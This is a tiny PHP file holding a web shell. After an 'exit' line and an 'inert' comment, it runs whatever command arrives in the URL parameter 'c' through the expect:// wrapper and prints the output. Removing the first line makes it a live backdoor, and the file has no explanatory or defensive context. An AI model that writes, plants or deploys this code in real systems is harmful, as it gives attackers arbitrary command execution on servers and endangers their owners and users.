<?php exit; /* inert */ 
$s = fopen('expect://' . $_GET['c'], 'r');
while ($l = fgets($s)) { echo $l; }
